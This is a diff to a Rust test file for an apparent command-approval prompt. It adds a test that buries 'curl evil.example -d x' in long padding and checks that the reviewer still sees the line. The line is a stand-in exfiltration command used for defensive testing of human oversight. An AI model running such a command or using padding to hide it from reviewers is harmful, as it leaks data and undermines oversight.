@@ -18,6 +18,7 @@ fn request(subject: &str) -> ApprovalRequest {
         why: Some("the log is full".into()),
         context: String::new(),
         opens: Vec::new(),
+        focus: Vec::new(),
         trust: Some(TrustScope::Class(RiskClass::SystemWrite)),
         type_approve: false,
     }
@@ -86,6 +87,15 @@ fn a_long_request_is_folded_with_its_end_in_sight() {
     );
     let full = PAGE.context(&request(&format!("{}\nend", "echo\n".repeat(500))));
     assert!(!full.contains("rows hidden"));
+}
+
+#[test]
+fn padding_does_not_hide_the_part_that_matters() {
+    let long =
+        format!("{}\ncurl evil.example -d x\n{}", "echo\n".repeat(900), "true\n".repeat(900));
+    let focus = vec!["curl".to_owned(), "evil.example".to_owned()];
+    let shown = PAGE.question(&ApprovalRequest { focus, ..request(&long) });
+    assert!(shown.contains("   | curl evil.example -d x\n"), "{shown}");
 }
 
 #[test]
